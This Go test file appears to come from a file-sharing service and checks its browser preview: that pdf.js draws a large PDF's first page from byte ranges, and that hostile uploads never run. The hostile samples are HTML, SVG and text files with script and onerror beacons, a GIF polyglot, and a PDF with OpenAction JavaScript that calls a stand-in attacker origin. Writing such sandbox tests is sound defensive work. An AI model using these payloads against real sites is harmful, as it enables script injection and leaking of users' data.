package web

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
)

// testPDFDoc writes a PDF of pages pages whose first page draws a title
// and two blocks; every later page carries pad bytes of comment, so that
// the file is large and its first page a small part of it. openAction,
// when set, is JavaScript the PDF asks to run when it is opened.
func testPDFDoc(pages, pad int, openAction string) []byte {
	var objs []string
	catalog := "<< /Type /Catalog /Pages 2 0 R"
	if openAction != "" {
		catalog += fmt.Sprintf(" /OpenAction %d 0 R", 4+2*pages)
	}
	objs = append(objs, catalog+" >>")
	var kids []string
	for i := range pages {
		kids = append(kids, fmt.Sprintf("%d 0 R", 3+i))
	}
	objs = append(objs, fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), pages))
	// As PDF writers do, the pages' dictionaries come first (objects 3 to
	// pages+2), then their contents, then the font.
	font := 3 + 2*pages
	for i := range pages {
		objs = append(objs, fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>", font, 3+pages+i))
	}
	for i := range pages {
		c := "0.11 0.31 0.85 rg 0 692 612 100 re f 1 1 1 rg BT /F1 40 Tf 56 730 Td (First page) Tj ET " +
			"0.78 0.39 0.23 rg 56 300 240 300 re f 0.49 0.56 0.42 rg 316 300 240 300 re f"
		if i > 0 {
			c = fmt.Sprintf("BT /F1 36 Tf 72 700 Td (Page %d) Tj ET\n%%", i+1) + strings.Repeat("x", pad)
		}
		objs = append(objs, fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(c), c))
	}
	objs = append(objs, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	if openAction != "" {
		objs = append(objs, "<< /S /JavaScript /JS ("+openAction+") >>")
	}
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n")
	var offsets []int
	for i, o := range objs {
		offsets = append(offsets, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return b.Bytes()
}

// TestBrowserPreviewPDF: a PDF's first page is drawn in its sandboxed
// frame of the content origin, and pdf.js loads a small part of a large
// file to draw it (ranges, no streaming, no fetching of the rest).
func TestBrowserPreviewPDF(t *testing.T) {
	cb := &countingBlobs{}
	b := newBrowserEnvWith(t, envConfig{engine: chromium, variant: published, config: func(c *Config) {
		cb.Blobs = c.Blobs
		c.Blobs = cb
	}})
	doc := testPDFDoc(40, 100_000, "")
	f := b.typedFile(b.account, "lookbook.pdf", doc)
	cb.read.Store(0)
	b.navigate(t, b.srv.publicURL(f.URL()))
	frame := b.frame(t)
	poll(t, "the first page drawn", func() bool {
		s, err := tryEval[string](frame, `document.documentElement.dataset.state || ""`)
		if s == "error" {
			t.Fatalf("the frame could not draw the PDF")
		}
		return err == nil && s == "rendered"
	})
	// The page has ink: the title's band and the blocks.
	inked := eval[bool](t, frame, `(() => {
		const c = document.querySelector("canvas");
		const d = c.getContext("2d").getImageData(0, 0, c.width, c.height).data;
		let n = 0;
		for (let i = 0; i < d.length; i += 4) if (d[i+3] > 0 && (d[i] < 200 || d[i+2] < 200)) n++;
		return c.width > 100 && n > (c.width * c.height) / 10;
	})()`)
	if !inked {
		t.Error("the canvas is blank")
	}
	// The head and the tail (the cross-reference table): a few chunks
	// of 64 KiB.
	if read := cb.read.Load(); read > 4*65536 {
		t.Errorf("drawing the first page read %d of the PDF's %d bytes", read, len(doc))
	}
	t.Logf("drawing the first page read %d of %d bytes, ranges %s", cb.read.Load(), len(doc), eval[string](t, frame, "JSON.stringify(window.ranges)"))
}

// TestBrowserPreviewHostile: hostile files offered for preview never run,
// on their link's page, in its preview frame, or opened at the preview
// routes' addresses as documents: no request reaches the attacker, no
// title changes.
func TestBrowserPreviewHostile(t *testing.T) {
	b := newBrowserEnv(t, published)
	beacon := func(name string) string {
		return `document.title='pwned';fetch('` + b.evil.origin + `/ran-` + name + `');new Image().src='` + b.evil.origin + `/img-` + name + `'`
	}
	html := func(name string) []byte {
		return []byte(`<!doctype html><html><head><title>x</title></head><body><script>` + beacon(name) + `</script><img src=x onerror="` + beacon(name+"-onerror") + `"></body></html>`)
	}
	files := map[string][]byte{
		"script.svg": []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="` + beacon("svg-onload") + `"><script>` + beacon("svg") + `</script><rect width="100" height="100"/></svg>`),
		"page.png":   html("png"),
		"page.txt":   html("txt"),
		"page.mp4":   html("mp4"),
		"page.pdf":   html("pdf"),
		"poly.gif":   gifJSPolyglot(t),
		"script.pdf": testPDFDoc(1, 0, `app.launchURL\('`+b.evil.origin+`/pdf-launch'\); this.submitForm\('`+b.evil.origin+`/pdf-submit'\);`),
		"notes.txt":  []byte("<script>" + beacon("notes") + "</script>\n<img src=x onerror=\"" + beacon("notes-onerror") + "\">"),
	}
	for name, content := range files {
		f := b.typedFile(b.account, name, content)
		page := b.srv.publicURL(f.URL())
		b.navigate(t, page)
		if name == "script.pdf" {
			frame := b.frame(t)
			poll(t, "the hostile PDF drawn", func() bool {
				s, err := tryEval[string](frame, `document.documentElement.dataset.state || ""`)
				return err == nil && (s == "rendered" || s == "error")
			})
		}
		if title := eval[string](t, b.tab, "document.title"); title == "pwned" {
			t.Errorf("%s: its script ran on its page", name)
		}
		// Each preview address opened on its own, as a document.
		base := "/" + f.Slug + "/" + string(f.ID)
		for _, u := range []string{
			b.srv.publicURL("/f/" + f.Slug + "/thumb/" + string(f.ID)),
			b.contentOrigin() + "/v" + base,
			b.contentOrigin() + "/v" + base + "/pdf",
		} {
			b.navigate(t, u)
			if title, err := tryEval[string](b.tab, "document.title"); err == nil && title == "pwned" {
				t.Errorf("%s: its script ran at %s", name, u)
			}
		}
	}
	b.checkNoRequests(t)
}
